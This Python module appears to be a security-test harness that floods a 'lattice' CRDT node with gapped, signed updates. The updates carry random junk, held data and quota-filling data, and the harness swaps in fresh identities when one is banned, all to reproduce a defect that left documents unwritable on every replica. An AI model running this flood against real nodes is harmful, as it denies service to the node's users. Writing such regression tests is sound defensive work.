"""Sequence-gap flood against a CRDT document (issue 16, defect 11).

A stranger may write a document that has no writer list. It pushes signed updates whose seq leaves a
gap (seq n+5 while the victim holds n), so they cannot be applied yet:
- junk: random bytes as Yjs data, ``junk_size`` bytes each and the last ones halving down to 16
  bytes, so they fill a document to the brim. An unfixed node stored them unchecked, counted them
  against ``max_bytes`` and replicated them: 71 of them made a document unwritable on every
  replica, also after a restart. A banned identity is replaced by a fresh one, as a real attacker
  would;
- held: valid Yjs data beyond the gap, more than the victim may hold for one author;
- quota: valid contiguous updates, more than one author's share of the document.

``await crdt_gap_flood(victim_multiaddr, "doc", ...)`` returns a dict of what was sent and how often
the victim cut the attacker off; the victim's side is read from its ``crdt.status`` and
``limits.bans``.
"""

from __future__ import annotations

import contextlib
import os
import struct
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import msgpack
import trio
from pycrdt import Doc, Map

from lattice.crdt.service import PROTOCOL_ID
from lattice.crdt.updates import NO_PREV, SignedUpdate, sign
from lattice.errors import LatticeError
from lattice.identity import KeyPair, PeerId
from lattice.transport import open_host
from lattice.transport.host import Host


@dataclass
class Identity:
    """One identity of the attacker: its key and a host connected to the victim."""

    key: KeyPair
    host: Host
    victim: PeerId


@contextlib.asynccontextmanager
async def identity(target: str) -> AsyncIterator[Identity]:
    key = KeyPair.generate()
    async with open_host(key) as host:
        with trio.fail_after(10):
            conn = await host.connect(target)
        yield Identity(key, host, conn.remote_peer)


def yjs_updates(n: int, size: int) -> list[bytes]:
    """``n`` genuine Yjs updates, each setting one map key to a string of ``size`` characters."""
    doc: Doc = Doc()
    out: list[bytes] = []
    doc.observe(lambda event: out.append(bytes(event.update)))
    root = doc.get("root", type=Map)
    for i in range(n):
        root[f"k{i}"] = "x" * size
    return [u for u in out if u != b"\x00\x00"][:n]


def signed(key: KeyPair, doc: str, datas: list[bytes], first_seq: int) -> list[SignedUpdate]:
    """``datas`` signed as seqs ``first_seq``, ``first_seq + 1``, ... (hash-chained)."""
    out: list[SignedUpdate] = []
    prev = NO_PREV
    for i, data in enumerate(datas):
        out.append(sign(key, doc, first_seq + i, data, prev))
        prev = out[-1].digest()
    return out


async def push(who: Identity, doc: str, updates: list[SignedUpdate]) -> bool:
    """Push ``updates`` on a fresh stream and wait until the victim is done with it (it closes the
    stream after our end); False if the victim cut us off before the updates were written."""
    if who.host.connection_to(who.victim) is None:
        return False
    frame = msgpack.packb({"t": "push", "doc": doc, "u": [u.encode() for u in updates]}, use_bin_type=True)
    try:
        with trio.fail_after(10):
            stream = await who.host.new_stream(who.victim, [PROTOCOL_ID])
            await stream.write(struct.pack(">I", len(frame)) + frame)
            await stream.close()
    except (LatticeError, trio.TooSlowError):
        return False
    with contextlib.suppress(LatticeError, trio.TooSlowError), trio.fail_after(10):
        while await stream.read():
            pass
    return True


async def push_all(who: Identity, doc: str, updates: list[SignedUpdate], per_push: int) -> int:
    """Push ``updates`` ``per_push`` at a time; returns how many were written before a cut-off."""
    sent = 0
    for i in range(0, len(updates), per_push):
        if not await push(who, doc, updates[i : i + per_push]):
            break
        sent += len(updates[i : i + per_push])
    return sent


def junk_sizes(junk: int, junk_size: int) -> list[int]:
    """``junk_size`` each, the last ones halving down to 16 bytes (they fill the last gaps)."""
    tail = min(junk, max(1, junk_size.bit_length() - 4))
    return [junk_size] * (junk - tail) + [max(16, junk_size >> (i + 1)) for i in range(tail)]


async def junk_flood(
    target: str, doc: str, junk: int, junk_size: int, per_push: int, max_identities: int
) -> dict[str, Any]:
    """Junk Yjs data at seqs 6, 7, ... after a valid seq 1, by as many identities as it takes."""
    sizes = junk_sizes(junk, junk_size)
    sent = identities = cut_off = refused = 0
    authors: list[str] = []
    while sent < junk and identities < max_identities:
        identities += 1
        try:
            async with identity(target) as who:
                authors.append(str(who.key.peer_id))
                if not await push(who, doc, signed(who.key, doc, yjs_updates(1, 8), 1)):
                    cut_off += 1
                    continue
                seq = 6  # the gap: seqs 2..5 never come
                while sent < junk:
                    datas = [os.urandom(n) for n in sizes[sent : sent + per_push]]
                    if not await push(who, doc, signed(who.key, doc, datas, seq)):
                        cut_off += 1
                        break
                    sent += len(datas)
                    seq += len(datas)
        except (LatticeError, trio.TooSlowError, OSError):
            refused += 1
    return {"junk_sent": sent, "junk_identities": identities, "cut_off": cut_off, "refused": refused,
            "junk_authors": authors}  # fmt: skip


async def crdt_gap_flood(
    target: str,
    doc: str,
    junk: int = 128,
    junk_size: int = 16 * 1024,
    held: int = 0,
    quota_updates: int = 0,
    quota_size: int = 8 * 1024,
    per_push: int = 8,
    max_identities: int = 40,
) -> dict[str, Any]:
    """Run the three phases (quota, held, junk) against ``doc`` on the node at ``target``."""
    start = time.monotonic()
    out: dict[str, Any] = {"quota_sent": 0, "held_sent": 0}
    if quota_updates:
        async with identity(target) as who:
            out["quota_author"] = str(who.key.peer_id)
            updates = signed(who.key, doc, yjs_updates(quota_updates, quota_size), 1)
            out["quota_sent"] = await push_all(who, doc, updates, per_push)
    if held:
        async with identity(target) as who:
            out["held_author"] = str(who.key.peer_id)
            updates = signed(who.key, doc, yjs_updates(held + 2, 8), 1)
            await push(who, doc, updates[:1])
            out["held_sent"] = await push_all(who, doc, updates[2:], 256)  # seq 2 never comes
    out.update(await junk_flood(target, doc, junk, junk_size, per_push, max_identities))
    out["seconds"] = round(time.monotonic() - start, 2)
    return out
